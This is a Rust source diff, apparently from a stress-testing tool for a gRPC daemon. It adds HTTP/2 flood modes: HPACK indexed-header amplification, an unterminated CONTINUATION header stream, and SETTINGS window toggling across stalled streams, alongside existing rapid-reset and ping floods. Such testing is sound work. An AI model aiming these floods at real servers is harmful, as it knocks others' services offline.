@@ -1,25 +1,39 @@
 //! Frames that cost the sender little and the receiver much.
 
-use super::{again, each};
+use super::{REPLACE_AFTER, again, each};
 use crate::frames::{
-    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_BYTES_MAX, GOAWAY, HEADERS, PING, RST_STREAM,
-    SETTINGS, ending, goaway, grpc_fields, grpc_message, put, put_fields, put_opening, read_frame,
+    CANCEL, CONTINUATION, DATA, DYNAMIC_INDEX_MIN, END_HEADERS, END_STREAM, FRAME_BYTES_MAX, GOAWAY, HEADERS,
+    Head, PING, RST_STREAM, WINDOW_AT_FIRST, ending, goaway, grpc_fields, grpc_message, list_bytes, put,
+    put_entries, put_field_start, put_fields, put_opening, put_reference, put_stream_window, read_frame,
 };
 use crate::grpc::{FETCH_BLOCKS, fetch_blocks};
 use crate::hold::Hold;
 use crate::tally::{Tally, wide};
 use crate::target::Target;
+use std::collections::HashSet;
 use std::io;
 use std::time::Duration;
 use tokio::io::{AsyncWriteExt as _, BufReader};
 use tokio::net::TcpStream;
+use tokio::sync::Semaphore;
 
 /// Last stream number used; the flood continues on a new connection.
 const STREAM_MAX: u32 = 1 << 30;
 const FRAMES_A_WRITE: u32 = 100;
 /// Most frames a second on each connection, so that the sender's own CPU use is known.
 const FRAMES_A_SECOND: u32 = 10_000;
-const RECONNECT_AFTER: Duration = Duration::from_millis(10);
+/// Frames at a time of which the daemon takes few before it closes the connection: more would be lost with it, uncounted.
+const FEW_FRAMES_A_WRITE: u32 = 4;
+/// The daemon's limit of a list of headers.
+const LIST_BYTES_MAX: usize = 16 << 10;
+/// The field that is referred to.
+const REFERRED: &str = "a";
+/// With the other fields of a request it fits into a table of 4 KiB.
+const LONG_VALUE_BYTES: usize = 3600;
+/// 30 MB decoded.
+const REFERENCES_FAR_OVER: usize = 8 << 10;
+/// Open requests of a connection, of the 256 that it may have by default.
+const OPEN_STREAMS: u32 = 250;
 
 /// What is sent endlessly.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
@@ -36,6 +50,14 @@ pub enum Kind {
     Continuation,
     /// Requests with thousands of header fields.
     Headers,
+    /// Requests with as many header fields as are allowed, each a byte that refers to an entry of HPACK's dynamic table.
+    IndexedHeaders,
+    /// Requests whose 8 KiB of such bytes refer to an entry of 3.6 KB.
+    IndexedHeadersOver,
+    /// A head whose last field does not end, in CONTINUATION frames of 16 KiB.
+    Http2LongHead,
+    /// SETTINGS that close and open the windows of 250 requests that do not end. At most for as long as those may wait for a body.
+    SettingsWindows,
     /// One request whose body is DATA frames of no bytes.
     EmptyData,
     /// One HTTP/1.1 request with endless header fields.
@@ -46,6 +68,14 @@ impl Kind {
     /// Whether answers are read: some floods are worse if they are not.
     fn reads(self) -> bool {
         !matches!(self, Self::Settings | Self::Ping)
+    }
+
+    fn frames_a_write(self) -> u32 {
+        if matches!(self, Self::IndexedHeadersOver | Self::Http2LongHead) {
+            FEW_FRAMES_A_WRITE
+        } else {
+            FRAMES_A_WRITE
+        }
     }
 }
 
@@ -75,7 +105,7 @@ pub async fn run(target: &Target, options: &Options, hold: &Hold, tally: &Tally)
                 target.grpc
             };
             let connect = || target.connect(address);
-            again(hold, tally, Some(RECONNECT_AFTER), connect, |stream| async move {
+            again(hold, tally, Some(REPLACE_AFTER), connect, |stream| async move {
                 if let Some(how) = hold.unless_ended(flood(stream, target, options, tally)).await {
                     tally.closed(&how);
                 }
@@ -89,15 +119,21 @@ pub async fn run(target: &Target, options: &Options, hold: &Hold, tally: &Tally)
 /// Floods one connection until the daemon closes it; returns how it ended.
 async fn flood(stream: TcpStream, target: &Target, options: &Options, tally: &Tally) -> String {
     let (reader, mut writer) = stream.into_split();
+    let room = Semaphore::new(OPEN_STREAMS as usize);
     let write = async {
         let mut frames = Frames::new(options.kind, target);
-        writer.write_all(&frames.opening()).await?;
+        writer.write_all(&frames.opening(tally)).await?;
         let pause = Duration::from_secs(1) * FRAMES_A_WRITE / FRAMES_A_SECOND;
         let mut ticks = tokio::time::interval(pause);
         ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
         let mut out = Vec::new();
         while frames.next_stream < STREAM_MAX {
             ticks.tick().await;
+            if options.kind == Kind::IndexedHeaders
+                && let Ok(permits) = room.acquire_many(FRAMES_A_WRITE).await
+            {
+                permits.forget();
+            }
             out.clear();
             let sent = frames.fill(&mut out);
             writer.write_all(&out).await?;
@@ -125,10 +161,14 @@ async fn flood(stream: TcpStream, target: &Target, options: &Options, tally: &Ta
                 Err(error) => ending(&error),
             };
         }
+        let mut begun = HashSet::new();
         loop {
             match read_frame(&mut reader).await {
                 Ok((head, payload)) => {
                     tally.received(head.length + 9);
+                    if count_end(head, &mut begun, tally) {
+                        room.add_permits(1);
+                    }
                     if head.kind == GOAWAY {
                         return goaway(&payload);
                     }
@@ -151,6 +191,22 @@ async fn flood(stream: TcpStream, target: &Target, options: &Options, tally: &Ta
     }
 }
 
+/// Counts the end of an answer that has `begun`, or a refusal: an answer that ends with its head. Returns whether a request ends.
+fn count_end(head: Head, begun: &mut HashSet<u32>, tally: &Tally) -> bool {
+    match head.kind {
+        HEADERS if head.flags & END_STREAM == 0 => {
+            begun.insert(head.stream);
+            return false;
+        }
+        HEADERS if begun.remove(&head.stream) => tally.change(|counts| counts.answers += 1),
+        // Its code is compressed and not decoded.
+        HEADERS => tally.refused("refused", None),
+        RST_STREAM => {}
+        _ => return false,
+    }
+    true
+}
+
 struct Frames {
     kind: Kind,
     head: Vec<u8>,
@@ -170,16 +226,34 @@ impl Frames {
         }
     }
 
-    fn opening(&mut self) -> Vec<u8> {
+    fn opening(&mut self, tally: &Tally) -> Vec<u8> {
         let mut out = Vec::new();
         if self.kind == Kind::HttpHeaders {
             out.extend_from_slice(b"GET / HTTP/1.1\r\nHost: localhost\r\n");
             return out;
         }
-        put_opening(&mut out, 65_535);
+        put_opening(&mut out, WINDOW_AT_FIRST);
         match self.kind {
             Kind::Continuation => put(&mut out, HEADERS, END_STREAM, 1, &self.head),
             Kind::EmptyData => put(&mut out, HEADERS, END_HEADERS, 1, &self.head),
+            Kind::Http2LongHead => {
+                let mut fields = self.head.clone();
+                put_field_start(&mut fields, "x-long", 1 << 20);
+                put(&mut out, HEADERS, END_STREAM, 1, &fields);
+            }
+            Kind::SettingsWindows => {
+                for call in 0..OPEN_STREAMS {
+                    put(&mut out, HEADERS, END_HEADERS, 2 * call + 1, &self.head);
+                }
+                tally.change(|counts| counts.calls = counts.calls.saturating_add(OPEN_STREAMS.into()));
+            }
+            Kind::IndexedHeaders => {
+                let left = LIST_BYTES_MAX - 1 - list_bytes(&grpc_fields(FETCH_BLOCKS));
+                self.refer(&mut out, "", left / list_bytes(&[(REFERRED, "")]));
+            }
+            Kind::IndexedHeadersOver => {
+                self.refer(&mut out, &"b".repeat(LONG_VALUE_BYTES), REFERENCES_FAR_OVER);
+            }
             Kind::RapidReset
             | Kind::ResetAfterHeaders
             | Kind::Settings
@@ -190,9 +264,28 @@ impl Frames {
         out
     }
 
+    /// Appends a request whose fields become entries of the table, with one more field. The heads of the following ones refer to
+    /// them, and so many times to that field.
+    fn refer(&mut self, out: &mut Vec<u8>, value: &str, references: usize) {
+        let mut fields = grpc_fields(FETCH_BLOCKS);
+        let oldest = DYNAMIC_INDEX_MIN + u8::try_from(fields.len()).unwrap_or(0);
+        fields.push((REFERRED, value));
+        self.head.clear();
+        put_entries(&mut self.head, &fields);
+        put(out, HEADERS, END_HEADERS, 1, &self.head);
+        put(out, DATA, END_STREAM, 1, &self.body);
+        self.next_stream = 3;
+        self.head.clear();
+        let of_request = (DYNAMIC_INDEX_MIN + 1..=oldest).rev();
+        for index in of_request.chain(std::iter::repeat_n(DYNAMIC_INDEX_MIN, references)) {
+            put_reference(&mut self.head, index);
+        }
+    }
+
     /// Appends about one write's worth of frames; returns how many.
     fn fill(&mut self, out: &mut Vec<u8>) -> u32 {
-        for _ in 0..FRAMES_A_WRITE {
+        let frames = self.kind.frames_a_write();
+        for number in 0..frames {
             let stream = self.next_stream;
             match self.kind {
                 Kind::RapidReset => {
@@ -207,7 +300,10 @@ impl Frames {
                     put(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                     self.next_stream += 2;
                 }
-                Kind::Settings => put(out, SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
+                Kind::Settings => put_stream_window(out, WINDOW_AT_FIRST),
+                Kind::SettingsWindows => {
+                    put_stream_window(out, if number % 2 == 0 { 0 } else { WINDOW_AT_FIRST });
+                }
                 Kind::Ping => put(out, PING, 0, 0, &[0; 8]),
                 Kind::Continuation => {
                     let mut fields = Vec::new();
@@ -225,10 +321,16 @@ impl Frames {
                     put(out, DATA, END_STREAM, stream, &self.body);
                     self.next_stream += 2;
                 }
+                Kind::IndexedHeaders | Kind::IndexedHeadersOver => {
+                    put(out, HEADERS, END_HEADERS, stream, &self.head);
+                    put(out, DATA, END_STREAM, stream, &self.body);
+                    self.next_stream += 2;
+                }
+                Kind::Http2LongHead => put(out, CONTINUATION, 0, 1, &[b'a'; FRAME_BYTES_MAX]),
                 Kind::EmptyData => put(out, DATA, 0, 1, &[]),
                 Kind::HttpHeaders => out.extend_from_slice(b"x-more: 0123456789abcdef0123456789abcdef\r\n"),
             }
         }
-        FRAMES_A_WRITE
+        frames
     }
 }
